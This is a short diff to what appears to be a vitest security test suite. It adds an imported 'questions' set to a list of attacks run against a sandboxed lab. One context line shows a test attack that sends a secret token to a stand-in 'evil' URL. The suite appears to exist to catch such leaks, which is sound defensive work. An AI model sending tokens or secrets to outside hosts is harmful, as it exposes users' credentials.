@@ -6,6 +6,7 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type Lab, type Outcome, openLab, token } from './attacks/lab.js';
 import { interceptions } from './attacks/interception.js';
 import { type Attack, moreAttacks } from './attacks/more.js';
+import { questions } from './attacks/questions.js';
 import { mockAttacks } from './attacks/mocks.js';
 import { settingAttacks } from './attacks/settings.js';
 
@@ -606,6 +607,7 @@ const attacks: readonly Attack[] = [
       return lab.send({ url: getEvilUrl('/{{TOKEN}}') });
     },
   ],
+  ...questions,
   ...moreAttacks,
   ...interceptions,
   ...settingAttacks,
